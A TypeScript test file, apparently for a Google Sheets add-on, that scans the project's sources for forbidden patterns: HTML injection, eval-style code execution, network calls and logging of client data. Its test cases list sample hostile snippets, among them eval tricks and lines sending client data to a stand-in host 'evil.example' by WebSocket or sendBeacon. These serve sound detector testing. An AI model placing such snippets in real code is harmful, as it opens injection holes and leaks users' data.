import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as formulaEngine from '@univerjs/engine-formula';
import { describe, expect, test } from 'vitest';
import { RUSSIAN_FUNCTIONS } from '../workbench/locale/russianFunctions';
import { code, forbidden, log, markup, network } from './forbiddenCode';
import { LISTED } from './functions/listed';
import { SHEETS_ONLY } from './sheetsFunctions';

// What must not be in the source, whoever writes it.

const root = join(import.meta.dirname, '..');

/** The code of a folder, by path. */
function codeOf(folder: string): Map<string, string> {
  return new Map(
    readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' })
      .map((path) => `${folder}/${path.replaceAll('\\', '/')}`)
      .filter((path) => /\.tsx?$/.test(path) && !path.endsWith('.d.ts'))
      .map((path) => [path, readFileSync(join(root, path), 'utf8')]),
  );
}

const SRC = codeOf('src');
const PAGE = codeOf('workbench/page');

/** Every place that a guard finds, as `path: what stands there`. */
const found = (code: ReadonlyMap<string, string>, guard: Parameters<typeof forbidden>[2]) =>
  [...code].flatMap(([path, text]) =>
    forbidden(text, path, guard).map((name) => `${path}: ${name}`),
  );

test('the sources are read', () => {
  expect(SRC.get('src/addon/part.ts')).toContain('new Function(');
  expect(PAGE.get('workbench/page/sidebar.ts')).toContain('srcdoc');
});

describe('no text becomes markup', () => {
  test('in the panel and the script', () => {
    expect(found(SRC, markup)).toEqual([]);
  });

  test('on the workbench’s page, but for the frame that the panel is shown in, read as it was built', () => {
    expect(new Set(found(PAGE, markup))).toEqual(
      new Set(['srcdoc', 'outerHTML'].map((name) => `workbench/page/sidebar.ts: ${name}`)),
    );
    expect(PAGE.get('workbench/page/sidebar.ts')).toMatch(/\$\{inner\.outerHTML\}/);
  });

  test.each([
    'a.innerHTML = text',
    "a['outerHTML'] = text",
    'a.srcdoc = text',
    'a.setHTMLUnsafe(text)',
    'document.write(text)',
    "a.setAttribute('onclick', text)",
    'a.setAttribute(name, text)',
    "a.setAttribute('srcdoc', text)",
    'const { insertAdjacentHTML: put } = a',
    '<div dangerouslySetInnerHTML={{ __html: text }} />',
    '<iframe srcdoc={text} />',
  ])('it is found: %s', (text) => {
    expect(forbidden(text, 'evil.tsx', markup)).not.toEqual([]);
  });
});

describe('no text becomes code', () => {
  test('but for the add-on’s second file', () => {
    expect(found(SRC, code).sort()).toEqual([
      'src/addon/part.ts: Function',
      // Is listened to.
      'src/sidebar/client/useSelectedClient.ts: window',
    ]);
    // What the panel calls, put there as Google does.
    expect(found(PAGE, code)).toEqual(['workbench/page/frame/googleScript.ts: window']);
  });

  test.each([
    'eval(text)',
    '(0, eval)(text)',
    'const run = Function; run(text)',
    "(() => {})['constructor'](text)",
    '(() => {}).constructor(text)',
    "window['ev' + 'al'](text)",
    'const all = globalThis',
    'const { Function: make } = window',
    "setTimeout('a()', 1)",
    'setTimeout(`a(text)`, 1)',
    'import(text)',
    "a.href = 'javascript:alert(1)'",
  ])('it is found: %s', (text) => {
    expect(forbidden(text, 'evil.ts', code)).not.toEqual([]);
  });
});

describe('nothing is asked of a host', () => {
  test('by the panel, the script', () => {
    expect(found(SRC, network)).toEqual([]);
  });

  test.each([
    'fetch(url)',
    'const { fetch: ask } = window',
    "window['fetch'](url)",
    'new WebSocket(`wss://evil.example/client`)',
    "const a = 'wss://evil.example'",
    "const a = '//evil.example/?' + client",
    "const a = 'https://' + host",
    `const a = \`https://\${host}/x\``,
    "const a = 'https://wa.me.evil.example/'",
    'navigator.sendBeacon(url, client)',
    'new Image()',
    'const Picture = Image',
    'a.src = url',
    "document.createElement('script')",
    '<img alt={client} />',
    'window.location = url',
  ])('it is found: %s', (text) => {
    expect(forbidden(text, 'evil.tsx', network)).not.toEqual([]);
  });
});

describe('what is logged is the unforeseen alone: no cell and no client is put into a log', () => {
  test('in the panel and the script', () => {
    expect(found(SRC, log).sort()).toEqual([
      'src/sheets/document/unforeseen.ts: console',
      // The browser’s own console, of whoever is at work.
      'src/sidebar/refusal.ts: console',
    ]);
    expect(SRC.get('src/sheets/document/unforeseen.ts')).toContain(
      'console.error(withoutAddresses(String(error instanceof Error ? error.stack : error)));',
    );
    expect(SRC.get('src/sidebar/refusal.ts')).toContain('console.warn(error);');
  });

  test.each([
    'console.log(client)',
    "console['log'](client)",
    'const { error: tell } = console',
    'const a = console',
    "globalThis['console'].log(client)",
    'const { console: a } = globalThis',
    'Logger.log(client)',
  ])('it is found: %s', (text) => {
    expect(forbidden(text, 'evil.ts', log)).not.toEqual([]);
  });
});

describe('a custom function has a name of its own', () => {
  /** The functions that Sheets shares with Excel, by what the workbench's engine has of them. */
  const shared = Object.entries(formulaEngine)
    .filter(([name]) => /^FUNCTION_NAMES_/.test(name))
    .flatMap(([, names]) => Object.values(names as Record<string, string>));
  const builtIn = new Set([...shared, ...SHEETS_ONLY, ...Object.entries(RUSSIAN_FUNCTIONS).flat()]);

  test('the names of Sheets are known', () => {
    expect(builtIn.size).toBeGreaterThan(500);
    for (const name of ['SUM', 'XLOOKUP', 'QUERY', 'LAMBDA', 'СУММ']) {
      expect(builtIn).toContain(name);
    }
  });

  test.each([...LISTED.keys()])('%s', (name) => {
    expect(builtIn).not.toContain(name);
    // As Sheets asks: a name with a dot or at its end an underscore cannot be called, one like A1
    // is a cell.
    expect(name).toMatch(/^[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)*$/);
    expect(name).not.toMatch(/^[A-Z]{1,3}\d+$/);
  });
});
